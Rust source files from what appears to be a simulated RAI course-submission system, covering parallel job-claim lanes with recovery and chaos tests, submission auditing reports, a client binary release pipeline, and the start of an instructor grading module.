                        events.push((rank, wi, w.commit(e)));
                    }
                    *out.lock() = events;
                });
            }
        });
        let mut all: Vec<(usize, usize, StepEvent)> = results
            .into_iter()
            .flat_map(|m| m.into_inner())
            .collect();
        all.sort_by_key(|(rank, _, _)| *rank);
        all.into_iter().map(|(_, wi, ev)| (wi, ev)).collect()
    }

    /// Run one round's claim tails across `lanes` independent lanes
    /// keyed by [`claim_lane_of`] — an FNV-1a hash of the job's log
    /// topic, so lane assignment is a pure function of the job id
    /// (DESIGN.md §17). Lanes claim concurrently on the shared pool;
    /// within a lane claims stay in pop order, and the flattened
    /// result is re-sorted into pop order before execute, so the
    /// downstream schedule is identical to the serial path. Returns
    /// `(worker, claim)` pairs in pop order regardless of which path
    /// ran.
    fn claim_lanes_run(
        &mut self,
        popped: Vec<(usize, crate::worker::PoppedTask)>,
        lanes: usize,
    ) -> Vec<(usize, crate::worker::ClaimedJob)> {
        if lanes <= 1 || popped.len() <= 1 {
            return popped
                .into_iter()
                .map(|(wi, p)| (wi, self.workers[wi].claim_popped(p)))
                .collect();
        }
        let mut buckets: Vec<Vec<(usize, usize, crate::worker::PoppedTask)>> =
            (0..lanes).map(|_| Vec::new()).collect();
        for (rank, (wi, p)) in popped.into_iter().enumerate() {
            let lane = claim_lane_of(p.job_id(), lanes);
            buckets[lane].push((rank, wi, p));
        }
        // Each worker pops at most one task per round, so handing each
        // lane exclusive `&mut Worker`s is race-free (the same slot
        // discipline as [`RaiSystem::commit_lanes`]).
        let mut slots: Vec<Option<&mut Worker>> = self.workers.iter_mut().map(Some).collect();
        let lane_work: Vec<Vec<(usize, usize, &mut Worker, crate::worker::PoppedTask)>> = buckets
            .into_iter()
            .map(|bucket| {
                bucket
                    .into_iter()
                    .map(|(rank, wi, p)| {
                        let w = slots[wi].take().expect("one pop per worker per round");
                        (rank, wi, w, p)
                    })
                    .collect()
            })
            .filter(|work: &Vec<_>| !work.is_empty())
            .collect();
        let results: Vec<parking_lot::Mutex<Vec<(usize, usize, crate::worker::ClaimedJob)>>> =
            (0..lane_work.len()).map(|_| parking_lot::Mutex::new(Vec::new())).collect();
        self.executor.scope(|s| {
            for (li, work) in lane_work.into_iter().enumerate() {
                let out = &results[li];
                s.spawn(move || {
                    let mut claims = Vec::with_capacity(work.len());
                    for (rank, wi, w, p) in work {
                        claims.push((rank, wi, w.claim_popped(p)));
                    }
                    *out.lock() = claims;
                });
            }
        });
        let mut all: Vec<(usize, usize, crate::worker::ClaimedJob)> = results
            .into_iter()
            .flat_map(|m| m.into_inner())
            .collect();
        all.sort_by_key(|(rank, _, _)| *rank);
        all.into_iter().map(|(_, wi, c)| (wi, c)).collect()
    }

    /// Run externally popped tasks' claim tails across the configured
    /// claim lanes, returning `(worker, claim)` pairs in pop order.
    /// Drivers that pop on their own schedule — the semester's
    /// dispatch loop claims in FIFO arrival order against a capacity
    /// budget — use this to share [`RaiSystem::drive_until`]'s claim
    /// pipeline (DESIGN.md §17). The same serial-fallback rule
    /// applies: fault-plan runs claim serially because the injector's
    /// draw stream is ordering-visible. Callers must pop at most one
    /// task per worker per call.
    pub fn claim_tasks(
        &mut self,
        popped: Vec<(usize, crate::worker::PoppedTask)>,
    ) -> Vec<(usize, crate::worker::ClaimedJob)> {
        let lanes = if self.injector.is_none() { self.claim_lanes } else { 1 };
        self.claim_lanes_run(popped, lanes)
    }

    /// Drain every queued job.
    pub fn drain(&mut self) -> Vec<JobOutcome> {
        self.drive_until(|_| false)
    }

    /// The leaderboard.
    pub fn rankings(&self) -> RankingBoard {
        RankingBoard::new(self.db.clone())
    }

    /// Aggregate usage report.
    pub fn report(&self) -> SystemReport {
        SystemReport {
            store: self.store.usage(),
            broker: self.broker.stats(),
            submissions: self.db.collection("submissions").read().len(),
            teams: self.db.collection("teams").read().len(),
            metrics: self.telemetry.snapshot(),
        }
    }

    /// The shared virtual clock.
    pub fn clock(&self) -> &VirtualClock {
        &self.clock
    }

    /// The database (for instructor tooling).
    pub fn db(&self) -> &Database {
        &self.db
    }

    /// The object store.
    pub fn store(&self) -> &ObjectStore {
        &self.store
    }

    /// The broker.
    pub fn broker(&self) -> &Broker {
        &self.broker
    }

    /// The image registry.
    pub fn images(&self) -> &Arc<ImageRegistry> {
        &self.images
    }

    /// The credential registry.
    pub fn registry(&self) -> &Arc<RwLock<CredentialRegistry>> {
        &self.registry
    }

    /// The telemetry handle (metrics registry, spans, job traces).
    pub fn telemetry(&self) -> &Telemetry {
        &self.telemetry
    }

    /// The attached fault injector, when a fault plan is active.
    pub fn fault_injector(&self) -> Option<&FaultInjector> {
        self.injector.as_ref()
    }

    /// The executor the payload pipeline runs on (sequential when
    /// `parallelism <= 1`).
    pub fn executor(&self) -> &Executor {
        &self.executor
    }

    /// Direct worker access (ablation experiments).
    pub fn workers_mut(&mut self) -> &mut [Worker] {
        &mut self.workers
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quickstart_flow() {
        let mut system = RaiSystem::new(SystemConfig::default());
        let creds = system.register_team("team-rust", &["alice", "bob"]);
        let receipt = system
            .submit(&creds, &ProjectDir::sample_cuda_project())
            .expect("submission should succeed");
        assert!(receipt.success);
        assert!(receipt.log.iter().any(|l| l.contains("Building project")));
        assert_eq!(system.report().submissions, 1);
        assert_eq!(system.report().teams, 1);
    }

    #[test]
    fn final_submission_updates_leaderboard() {
        let mut system = RaiSystem::new(SystemConfig {
            rate_limit: None,
            ..Default::default()
        });
        let fast = system.register_team("fast", &[]);
        let slow = system.register_team("slow", &[]);
        system
            .submit_final(
                &fast,
                &ProjectDir::cuda_project_with_perf(400.0, 0.93, 1024).with_final_artifacts(),
            )
            .unwrap();
        system
            .submit_final(
                &slow,
                &ProjectDir::cuda_project_with_perf(1500.0, 0.91, 1024).with_final_artifacts(),
            )
            .unwrap();
        let standings = system.rankings().standings();
        assert_eq!(standings[0].0, "fast");
        assert_eq!(standings[1].0, "slow");
        assert_eq!(system.rankings().rank_of("slow"), Some(2));
    }

    #[test]
    fn rate_limit_enforced_by_system() {
        let mut system = RaiSystem::new(SystemConfig::default());
        let creds = system.register_team("eager", &[]);
        let p = ProjectDir::sample_cuda_project();
        system.submit(&creds, &p).unwrap();
        // The virtual clock advanced by the job's service time (>30 s
        // because of the image pull), so a second submit is allowed;
        // a third immediately after is denied.
        system.submit(&creds, &p).unwrap();
        match system.submit(&creds, &p) {
            Err(SubmitError::RateLimited { retry_after_secs }) => {
                assert!(retry_after_secs <= 30);
            }
            other => panic!("expected rate limit, got {other:?}"),
        }
    }

    #[test]
    fn usage_report_counts_bytes() {
        let mut system = RaiSystem::new(SystemConfig {
            rate_limit: None,
            ..Default::default()
        });
        let creds = system.register_team("t", &[]);
        for _ in 0..3 {
            system.submit(&creds, &ProjectDir::sample_cuda_project()).unwrap();
        }
        let report = system.report();
        assert_eq!(report.submissions, 3);
        // 3 project uploads + 3 build-output uploads.
        assert_eq!(report.store.puts, 6);
        assert!(report.store.bytes_uploaded > 0);
        assert!(report.broker.published >= 3);
    }

    #[test]
    fn telemetry_records_job_lifecycle() {
        let mut system = RaiSystem::new(SystemConfig {
            rate_limit: None,
            ..Default::default()
        });
        let creds = system.register_team("t", &[]);
        let receipt = system.submit(&creds, &ProjectDir::sample_cuda_project()).unwrap();
        let trace = system
            .telemetry()
            .job_trace(receipt.job_id)
            .expect("job should be traced");
        assert!(trace.is_monotone());
        assert!(trace.stage_time(rai_telemetry::stage::SUBMITTED).is_some());
        assert!(trace.stage_time(rai_telemetry::stage::GRADED).is_some());
        let metrics = system.report().metrics;
        assert_eq!(metrics.counter_total(names::JOBS_TOTAL), 1);
        assert!(metrics.counter(names::DB_INSERTS_TOTAL, &[]).unwrap() > 0);
        assert!(!metrics.histograms_named(names::JOB_STAGE_SECONDS).is_empty());
        // The job went through the scheduler: one single-job round.
        assert_eq!(metrics.counter_total(names::EXEC_BATCHES_TOTAL), 1);
        assert_eq!(metrics.counter_total(names::EXEC_BATCH_JOBS_TOTAL), 1);
    }

    #[test]
    fn chaos_plan_still_terminates_every_job_exactly_once() {
        let mut system = RaiSystem::new(SystemConfig {
            workers: 3,
            rate_limit: None,
            fault_plan: Some(FaultPlan {
                poison_every: None, // all jobs should eventually succeed
                instance_deaths: Vec::new(),
                ..FaultPlan::chaos(0xC0FFEE)
            }),
            ..Default::default()
        });
        let creds = system.register_team("t", &[]);
        let client = system.client_for(&creds);
        let mut submitted = 0;
        for _ in 0..12 {
            // Client-side retries absorb most injected faults; a
            // publish rejection after retries is a visible (not lost)
            // failure and simply isn't submitted.
            if client
                .begin_submit(&ProjectDir::sample_cuda_project(), SubmitMode::Run)
                .is_ok()
            {
                submitted += 1;
            }
        }
        system.drain();
        // Every accepted submission reached exactly one terminal row.
        assert_eq!(system.report().submissions, submitted);
        let tasks = system
            .broker()
            .topic_stats(crate::protocol::routes::TASK_TOPIC)
            .unwrap();
        assert_eq!(tasks.depth, 0, "no job left behind");
        assert_eq!(tasks.in_flight, 0, "no claim leaked");
        assert_eq!(system.broker().stats().dead_lettered, 0, "no poison jobs in this plan");
    }

    #[test]
    fn multiple_workers_share_queue() {
        let mut system = RaiSystem::new(SystemConfig {
            workers: 4,
            rate_limit: None,
            ..Default::default()
        });
        let creds = system.register_team("t", &[]);
        let client = system.client_for(&creds);
        let pendings: Vec<_> = (0..8)
            .map(|_| {
                client
                    .begin_submit(&ProjectDir::sample_cuda_project(), SubmitMode::Run)
                    .unwrap()
            })
            .collect();
        let outcomes = system.drain();
        assert_eq!(outcomes.len(), 8);
        for p in pendings {
            assert!(p.wait(Duration::from_millis(500)).unwrap().success);
        }
    }

    /// Outcome summaries, final standings, and dedup-visible byte
    /// counters — everything a lane reordering could corrupt.
    type LaneSnapshot = (Vec<(u64, bool, SimDuration)>, Vec<(String, f64)>, usize);

    /// One full run-then-final scenario at a given lane/pool shape,
    /// reduced to everything outcome-visible.
    fn lane_scenario(shards: usize, parallelism: usize, claim_lanes: usize) -> LaneSnapshot {
        let mut system = RaiSystem::new(SystemConfig {
            workers: 4,
            parallelism,
            shards,
            claim_lanes,
            rate_limit: None,
            ..Default::default()
        });
        let teams: Vec<Credentials> = (0..4)
            .map(|i| system.register_team(&format!("team-{i}"), &[]))
            .collect();
        // Distinct payloads per job, so rounds have no shared chunk
        // digests and the multi-lane commit path actually engages.
        for (i, creds) in teams.iter().enumerate() {
            let client = system.client_for(creds);
            for j in 0..2 {
                let n = (i * 2 + j) as f64;
                let p = ProjectDir::cuda_project_with_perf(300.0 + n * 37.0, 0.9, 1024 + i as u64);
                client.begin_submit(&p, SubmitMode::Run).unwrap();
            }
        }
        let mut outcomes = system.drain();
        for (i, creds) in teams.iter().enumerate() {
            let client = system.client_for(creds);
            let p = ProjectDir::cuda_project_with_perf(200.0 + i as f64 * 100.0, 0.95, 2048)
                .with_final_artifacts();
            client.begin_submit(&p, SubmitMode::Submit).unwrap();
        }
        outcomes.extend(system.drain());
        let summary = outcomes
            .into_iter()
            .map(|o| (o.job_id, o.success, o.service_time))
            .collect();
        let usage = system.store().usage();
        let dedup_visible =
            (usage.bytes_wire + usage.chunks_dedup_total + usage.bytes_physical) as usize;
        (summary, system.rankings().standings(), dedup_visible)
    }

    #[test]
    fn commit_lanes_match_single_lane_reference() {
        // The single-lock, width-1 configuration is the reference
        // schedule; lanes and pool width must not change anything
        // outcome-visible (DESIGN.md §16).
        let reference = lane_scenario(1, 1, 1);
        for shards in [4, 16] {
            for parallelism in [1, 8] {
                assert_eq!(
                    lane_scenario(shards, parallelism, 1),
                    reference,
                    "shards={shards} parallelism={parallelism} diverged"
                );
            }
        }
    }

    #[test]
    fn claim_lanes_match_serial_claim_reference() {
        // The serial claim schedule (`claim_lanes == 1`) is the
        // reference; fanning the claim tail across lanes — alone or
        // combined with commit lanes and a wide pool — must not change
        // anything outcome-visible (DESIGN.md §17).
        let reference = lane_scenario(1, 1, 1);
        for claim_lanes in [2, 4, 16] {
            assert_eq!(
                lane_scenario(1, 1, claim_lanes),
                reference,
                "claim_lanes={claim_lanes} diverged"
            );
        }
        for (shards, parallelism, claim_lanes) in [(4, 8, 4), (16, 8, 16)] {
            assert_eq!(
                lane_scenario(shards, parallelism, claim_lanes),
                reference,
                "shards={shards} parallelism={parallelism} claim_lanes={claim_lanes} diverged"
            );
        }
    }

    #[test]
    fn durable_system_recovers_db_store_and_resumes_submissions() {
        let db_disk = rai_wal::MemDisk::new();
        let store_disk = rai_wal::MemDisk::new();
        let config = SystemConfig {
            rate_limit: None,
            durability: rai_wal::DurabilityConfig::durable(),
            ..Default::default()
        };
        let clock = VirtualClock::new();
        let mut system = RaiSystem::with_clock_durable(
            config.clone(),
            clock.clone(),
            Arc::new(db_disk.clone()),
            Arc::new(store_disk.clone()),
        );
        let creds = system.register_team("durable", &["alice"]);
        for _ in 0..2 {
            assert!(system.submit(&creds, &ProjectDir::sample_cuda_project()).unwrap().success);
        }
        system.sync_wals();
        let rows_before = system.db().collection("submissions").read().find(&doc! {}).len();
        let usage_before = system.store().usage();
        let at = clock.now();
        drop(system);

        // "Restart": rebuild the whole process from the two logs.
        let clock2 = VirtualClock::starting_at(at);
        let (mut recovered, report) = RaiSystem::recover_with_clock(
            config,
            clock2,
            Arc::new(db_disk),
            Arc::new(store_disk),
            None,
        );
        assert!(report.db.stats.replayed > 0);
        assert!(report.store.stats.replayed > 0);
        assert_eq!(report.db.malformed_dropped, 0);
        assert_eq!(report.store.objects_dropped, 0);
        assert_eq!(
            recovered.db().collection("submissions").read().find(&doc! {}).len(),
            rows_before
        );
        let usage_after = recovered.store().usage();
        assert_eq!(usage_after.objects, usage_before.objects);
        assert_eq!(usage_after.bytes_stored, usage_before.bytes_stored);
        assert_eq!(usage_after.bytes_physical, usage_before.bytes_physical);
        // Completed intents never re-publish.
        assert!(recovered.pending_intents().is_empty());
        assert_eq!(recovered.republish_pending(), 0);
        // The re-issued credentials match (deterministic keygen) and
        // the system keeps accepting work with fresh job ids.
        let creds2 = recovered.reregister_team("durable");
        assert_eq!(creds2.access_key, creds.access_key);
        assert_eq!(creds2.secret_key, creds.secret_key);
        let receipt = recovered.submit(&creds2, &ProjectDir::sample_cuda_project()).unwrap();
        assert!(receipt.success);
        assert_eq!(
            recovered.db().collection("submissions").read().find(&doc! {}).len(),
            rows_before + 1
        );
    }

    #[test]
    fn crash_before_publish_leaves_recoverable_intent() {
        let db_disk = rai_wal::MemDisk::new();
        let store_disk = rai_wal::MemDisk::new();
        let config = SystemConfig {
            rate_limit: None,
            durability: rai_wal::DurabilityConfig::durable(),
            ..Default::default()
        };
        let clock = VirtualClock::new();
        let mut system = RaiSystem::with_clock_durable(
            config.clone(),
            clock.clone(),
            Arc::new(db_disk.clone()),
            Arc::new(store_disk.clone()),
        );
        let creds = system.register_team("t", &[]);
        let client = system.client_for(&creds);
        let pending = client
            .begin_submit(&ProjectDir::sample_cuda_project(), SubmitMode::Run)
            .unwrap();
        let job_id = pending.job_id;
        // Crash before any worker touches the queue: the broker's
        // in-memory queue is lost, but the intent (synced at accept
        // time) and the uploaded project (journaled by the store)
        // both survive.
        drop(pending);
        drop(system);
        let clock2 = VirtualClock::starting_at(clock.now());
        let (mut recovered, _) = RaiSystem::recover_with_clock(
            config,
            clock2,
            Arc::new(db_disk),
            Arc::new(store_disk),
            None,
        );
        recovered.reregister_team("t");
        let pending = recovered.pending_intents();
        assert_eq!(pending.len(), 1);
        assert_eq!(pending[0].0, job_id);
        assert_eq!(recovered.republish_pending(), 1);
        let outcomes = recovered.drain();
        assert_eq!(outcomes.len(), 1);
        // Exactly one terminal row; the job is not pending anymore.
        assert_eq!(
            recovered
                .db()
                .collection("submissions")
                .read()
                .find(&doc! { "job_id" => job_id as i64 })
                .len(),
            1
        );
        assert!(recovered.pending_intents().is_empty());
    }
}
