//! Course auditing over the submissions database (paper §IV: "The
//! information in this database is useful for grading or any other
//! coursework auditing process").
//!
//! Built on the database's aggregation pipelines; these are the reports
//! the staff pulled while running the semester: per-team submission
//! behaviour, per-worker utilization, and course-wide totals.

use rai_db::aggregate::{aggregate, Accumulator, Stage};
use rai_db::{doc, Database, SortOrder, Value};

/// Per-team submission behaviour.
#[derive(Clone, Debug, PartialEq)]
pub struct TeamStats {
    /// Team name.
    pub team: String,
    /// Total submissions.
    pub submissions: i64,
    /// Successful submissions.
    pub successes: i64,
    /// Best (minimum) student-visible runtime, if any program ran.
    pub best_secs: Option<f64>,
    /// Mean student-visible runtime.
    pub mean_secs: Option<f64>,
}

/// Per-worker utilization.
#[derive(Clone, Debug, PartialEq)]
pub struct WorkerStats {
    /// Worker id.
    pub worker: String,
    /// Jobs executed.
    pub jobs: i64,
    /// Total container wall-clock seconds served.
    pub busy_secs: f64,
}

/// Per-team stats, most-active first.
pub fn team_stats(db: &Database) -> Vec<TeamStats> {
    let coll = db.collection("submissions");
    let rows = aggregate(
        &coll.read(),
        &[Stage::Group {
            by: Some("team".into()),
            fields: vec![
                ("n".into(), Accumulator::Count),
                ("best".into(), Accumulator::Min("internal_secs".into())),
                ("mean".into(), Accumulator::Avg("internal_secs".into())),
            ],
        }],
    );
    let mut out: Vec<TeamStats> = rows
        .into_iter()
        .filter_map(|r| {
            let team = r.get("_id")?.as_str()?.to_string();
            let successes = coll
                .read()
                .count(&doc! { "team" => team.as_str(), "success" => true })
                as i64;
            Some(TeamStats {
                submissions: r.get("n")?.as_i64()?,
                successes,
                best_secs: r.get("best").and_then(Value::as_f64),
                mean_secs: r.get("mean").and_then(Value::as_f64),
                team,
            })
        })
        .collect();
    out.sort_by(|a, b| b.submissions.cmp(&a.submissions).then(a.team.cmp(&b.team)));
    out
}

/// Per-worker utilization, busiest first.
pub fn worker_stats(db: &Database) -> Vec<WorkerStats> {
    let coll = db.collection("submissions");
    let rows = aggregate(
        &coll.read(),
        &[
            Stage::Group {
                by: Some("worker".into()),
                fields: vec![
                    ("jobs".into(), Accumulator::Count),
                    ("busy".into(), Accumulator::Sum("wall_secs".into())),
                ],
            },
            Stage::Sort("jobs".into(), SortOrder::Desc),
        ],
    );
    rows.into_iter()
        .filter_map(|r| {
            Some(WorkerStats {
                worker: r.get("_id")?.as_str()?.to_string(),
                jobs: r.get("jobs")?.as_i64()?,
                busy_secs: r.get("busy").and_then(Value::as_f64).unwrap_or(0.0),
            })
        })
        .collect()
}

/// Course totals: `(submissions, successes, distinct teams)`.
pub fn course_totals(db: &Database) -> (usize, usize, usize) {
    let coll = db.collection("submissions");
    let guard = coll.read();
    let total = guard.count(&doc! {});
    let ok = guard.count(&doc! { "success" => true });
    let teams = guard.distinct("team", &doc! {}).len();
    (total, ok, teams)
}

/// Render the per-team table.
pub fn render_team_stats(stats: &[TeamStats], limit: usize) -> String {
    let mut out = format!(
        "{:<12} {:>6} {:>6} {:>10} {:>10}\n",
        "team", "subs", "ok", "best (s)", "mean (s)"
    );
    for s in stats.iter().take(limit) {
        out.push_str(&format!(
            "{:<12} {:>6} {:>6} {:>10} {:>10}\n",
            s.team,
            s.submissions,
            s.successes,
            s.best_secs.map(|v| format!("{v:.3}")).unwrap_or_else(|| "-".into()),
            s.mean_secs.map(|v| format!("{v:.3}")).unwrap_or_else(|| "-".into()),
        ));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::client::ProjectDir;
    use crate::system::{RaiSystem, SystemConfig};

    fn populated() -> RaiSystem {
        let mut sys = RaiSystem::new(SystemConfig {
            workers: 2,
            rate_limit: None,
            ..Default::default()
        });
        let a = sys.register_team("alpha", &[]);
        let b = sys.register_team("beta", &[]);
        for _ in 0..3 {
            sys.submit(&a, &ProjectDir::sample_cuda_project()).unwrap();
        }
        // One failing submission for alpha.
        let mut broken = ProjectDir::sample_cuda_project();
        broken.tree.insert("main.cu", &b"RAI_SYNTAX_ERROR"[..]).unwrap();
        sys.submit(&a, &broken).unwrap();
        sys.submit(&b, &ProjectDir::sample_cuda_project()).unwrap();
        sys
    }

    #[test]
    fn team_stats_counts_and_runtimes() {
        let sys = populated();
        let stats = team_stats(sys.db());
        assert_eq!(stats.len(), 2);
        assert_eq!(stats[0].team, "alpha", "most active first");
        assert_eq!(stats[0].submissions, 4);
        assert_eq!(stats[0].successes, 3);
        assert!(stats[0].best_secs.unwrap() > 0.0);
        assert!(stats[0].mean_secs.unwrap() >= stats[0].best_secs.unwrap());
        assert_eq!(stats[1].team, "beta");
        assert_eq!(stats[1].submissions, 1);
    }

    #[test]
    fn worker_stats_cover_all_jobs() {
        let sys = populated();
        let stats = worker_stats(sys.db());
        let total_jobs: i64 = stats.iter().map(|w| w.jobs).sum();
        assert_eq!(total_jobs, 5);
        assert!(stats.iter().all(|w| w.busy_secs >= 0.0));
        // Busiest first.
        for w in stats.windows(2) {
            assert!(w[0].jobs >= w[1].jobs);
        }
    }

    #[test]
    fn totals() {
        let sys = populated();
        let (total, ok, teams) = course_totals(sys.db());
        assert_eq!(total, 5);
        assert_eq!(ok, 4);
        assert_eq!(teams, 2);
    }

    #[test]
    fn render_is_stable() {
        let sys = populated();
        let text = render_team_stats(&team_stats(sys.db()), 10);
        assert!(text.contains("alpha"));
        assert!(text.contains("beta"));
        assert_eq!(text.lines().count(), 3);
        // Limit respected.
        assert_eq!(render_team_stats(&team_stats(sys.db()), 1).lines().count(), 2);
    }
}
