//! Client build & delivery pipeline (paper §VII "RAI Client Delivery",
//! Fig. 3).
//!
//! "A continuous build system was configured to build both branches and
//! cross-compile them to other operating systems and architectures. The
//! built binaries are then uploaded to Amazon S3 and linked to the
//! project's home page." The commit hash and build date are embedded in
//! each binary, which is how bug reports were narrowed to the commit
//! that introduced a regression.

use rai_store::{ObjectStore, StoreError};

/// The ten OS/architecture targets from Fig. 3.
pub const TARGETS: [(&str, &str); 10] = [
    ("Linux", "i386"),
    ("Linux", "amd64"),
    ("Linux", "armv5"),
    ("Linux", "armv6"),
    ("Linux", "armv7"),
    ("Linux", "arm64"),
    ("OSX/Darwin", "i386"),
    ("OSX/Darwin", "amd64"),
    ("Windows", "i386"),
    ("Windows", "amd64"),
];

/// Release channel, mapped from the repository branch.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Channel {
    /// `master` — stable.
    Stable,
    /// `devel` — development.
    Development,
}

impl Channel {
    /// The branch that feeds this channel.
    pub fn branch(self) -> &'static str {
        match self {
            Channel::Stable => "master",
            Channel::Development => "devel",
        }
    }
}

/// One cross-compiled client binary.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ClientBinary {
    /// Target OS.
    pub os: &'static str,
    /// Target architecture.
    pub arch: &'static str,
    /// Channel.
    pub channel: Channel,
    /// Commit hash embedded in the binary.
    pub commit: String,
    /// Build date embedded in the binary.
    pub build_date: String,
    /// Object key on the download server.
    pub key: String,
}

impl ClientBinary {
    /// The `rai version` output students paste into bug reports.
    pub fn version_string(&self) -> String {
        format!(
            "rai client ({} {}) commit={} built={} channel={}",
            self.os,
            self.arch,
            self.commit,
            self.build_date,
            self.channel.branch()
        )
    }
}

/// The CI pipeline: cross-compiles a branch head to every target and
/// uploads the results.
pub struct DeliveryPipeline {
    store: ObjectStore,
    bucket: String,
}

impl DeliveryPipeline {
    /// A pipeline uploading into `bucket` (created if missing).
    pub fn new(store: ObjectStore, bucket: &str) -> Self {
        if !store.has_bucket(bucket) {
            store
                .create_bucket(bucket, rai_store::LifecycleRule::Keep)
                .expect("bucket existence just checked");
        }
        DeliveryPipeline {
            store,
            bucket: bucket.to_string(),
        }
    }

    /// Cross-compile `commit` from a channel's branch for all ten
    /// targets and upload each artifact. Returns the binaries, in
    /// Fig. 3 row order.
    pub fn release(
        &self,
        channel: Channel,
        commit: &str,
        build_date: &str,
    ) -> Result<Vec<ClientBinary>, StoreError> {
        let mut out = Vec::with_capacity(TARGETS.len());
        for (os, arch) in TARGETS {
            let key = format!(
                "{}/{}/{}/rai-{}-{}",
                channel.branch(),
                os.replace('/', "-").to_lowercase(),
                arch,
                commit,
                arch
            );
            // The "binary": a stub artifact with the embedded metadata a
            // real Go/Rust static binary would carry.
            let body = format!(
                "RAI-CLIENT-BINARY\nos={os}\narch={arch}\ncommit={commit}\ndate={build_date}\nbranch={}\n",
                channel.branch()
            );
            self.store.put(
                &self.bucket,
                &key,
                body.into_bytes(),
                [
                    ("commit".to_string(), commit.to_string()),
                    ("channel".to_string(), channel.branch().to_string()),
                ],
            )?;
            out.push(ClientBinary {
                os,
                arch,
                channel,
                commit: commit.to_string(),
                build_date: build_date.to_string(),
                key,
            });
        }
        Ok(out)
    }

    /// Latest release per target for a channel (what the homepage links
    /// to). Returns rows in Fig. 3 order.
    pub fn download_links(&self, binaries: &[ClientBinary]) -> Vec<(String, String, String)> {
        TARGETS
            .iter()
            .filter_map(|(os, arch)| {
                let b = binaries
                    .iter()
                    .rev()
                    .find(|b| b.os == *os && b.arch == *arch)?;
                Some((os.to_string(), arch.to_string(), b.key.clone()))
            })
            .collect()
    }

    /// Render the Fig. 3 table given the current stable and devel
    /// release sets.
    pub fn render_figure3(stable: &[ClientBinary], devel: &[ClientBinary]) -> String {
        let mut out = String::new();
        out.push_str(&format!(
            "{:<12} {:<8} {:<44} {:<44}\n",
            "OS", "Arch", "Stable Version Link", "Development Version Link"
        ));
        for (os, arch) in TARGETS {
            let find = |set: &[ClientBinary]| {
                set.iter()
                    .find(|b| b.os == os && b.arch == arch)
                    .map(|b| b.key.clone())
                    .unwrap_or_else(|| "-".to_string())
            };
            out.push_str(&format!(
                "{:<12} {:<8} {:<44} {:<44}\n",
                os,
                arch,
                find(stable),
                find(devel)
            ));
        }
        out
    }
}

/// Given a version string from a bug report, extract the commit — the
/// paper's "students would provide this information when they reported
/// bugs, which allowed us to narrow which commit introduced the
/// regression".
pub fn commit_from_bug_report(version_string: &str) -> Option<&str> {
    version_string
        .split_whitespace()
        .find_map(|tok| tok.strip_prefix("commit="))
}

#[cfg(test)]
mod tests {
    use super::*;
    use rai_sim::VirtualClock;

    fn pipeline() -> DeliveryPipeline {
        DeliveryPipeline::new(ObjectStore::new(VirtualClock::new()), "rai-downloads")
    }

    #[test]
    fn release_covers_all_ten_targets() {
        let p = pipeline();
        let bins = p.release(Channel::Stable, "abc1234", "2016-11-02").unwrap();
        assert_eq!(bins.len(), 10);
        let linux_arm64 = bins
            .iter()
            .find(|b| b.os == "Linux" && b.arch == "arm64")
            .unwrap();
        assert!(linux_arm64.key.contains("master"));
        // Artifacts actually landed on the store.
        assert_eq!(p.store.list("rai-downloads", "master/").unwrap().len(), 10);
    }

    #[test]
    fn version_string_embeds_commit_and_date() {
        let p = pipeline();
        let bins = p.release(Channel::Development, "fee1dea", "2016-11-20").unwrap();
        let v = bins[0].version_string();
        assert!(v.contains("commit=fee1dea"));
        assert!(v.contains("built=2016-11-20"));
        assert!(v.contains("channel=devel"));
        assert_eq!(commit_from_bug_report(&v), Some("fee1dea"));
    }

    #[test]
    fn figure3_table_shape() {
        let p = pipeline();
        let stable = p.release(Channel::Stable, "aaaa111", "2016-11-02").unwrap();
        let devel = p.release(Channel::Development, "bbbb222", "2016-11-20").unwrap();
        let table = DeliveryPipeline::render_figure3(&stable, &devel);
        // Header + 10 target rows.
        assert_eq!(table.lines().count(), 11);
        assert!(table.contains("Windows"));
        assert!(table.contains("armv7"));
        assert!(table.contains("master/"));
        assert!(table.contains("devel/"));
    }

    #[test]
    fn download_links_prefer_latest() {
        let p = pipeline();
        let mut all = p.release(Channel::Stable, "old0000", "2016-10-01").unwrap();
        all.extend(p.release(Channel::Stable, "new1111", "2016-11-01").unwrap());
        let links = p.download_links(&all);
        assert_eq!(links.len(), 10);
        assert!(links.iter().all(|(_, _, key)| key.contains("new1111")));
    }

    #[test]
    fn bug_report_without_commit() {
        assert_eq!(commit_from_bug_report("rai client broken pls help"), None);
    }
}
