//! Instructor utilities (paper §VI "Downloading and Running Students'
//! Submissions", §VII "Project Grading").
//!
//! * bulk-download final submissions (DB → file server → restore);
//! * optionally delete unneeded files (make intermediates, datasets);
//! * re-run each submission several times and keep the minimum time
//!   ("to get a more accurate measurement of the student execution
//!   times during project evaluation");
//! * check required files and produce the weighted grade report
//!   (performance 30%, functionality/correctness 20%, code quality 10%,
//!   written report 40% — the last two human-graded).

use crate::client::BUILD_BUCKET;
use crate::spec::BuildSpec;
use rai_archive::{restore, FileTree};
use rai_db::{doc, Database};
use rai_sandbox::{Container, ImageRegistry, ResourceLimits};
use rai_store::ObjectStore;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::sync::Arc;

/// A downloaded final submission.
#[derive(Clone, Debug)]
pub struct FinalSubmission {
    /// Team name.
    pub team: String,
    /// Student-visible recorded runtime.
    pub recorded_secs: f64,
    /// The unpacked `/build` archive (includes `submission_code/`).
    pub tree: FileTree,
}

/// Which required files a submission is missing.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct RequiredFileReport {
    /// Missing file names (empty = compliant).
    pub missing: Vec<&'static str>,
}

impl RequiredFileReport {
    /// Whether everything required is present.
    pub fn complete(&self) -> bool {
        self.missing.is_empty()
    }
}

/// Weighted grade for one team (paper §VII: 30/20/10/40).
#[derive(Clone, Debug, PartialEq)]
pub struct GradeReport {
    /// Team name.
    pub team: String,
    /// Performance component (0–30).
    pub performance: f64,
    /// Functionality and correctness component (0–20).
    pub correctness: f64,
    /// Code-quality component (0–10) — human-entered.
    pub code_quality: f64,
    /// Written-report component (0–40) — human-entered.
    pub written_report: f64,
}

impl GradeReport {
    /// Total out of 100.
    pub fn total(&self) -> f64 {
        self.performance + self.correctness + self.code_quality + self.written_report
    }
}

/// The instructor-side grading toolkit.
pub struct Grader {
    db: Database,
    store: ObjectStore,
    images: Arc<ImageRegistry>,
}

impl Grader {
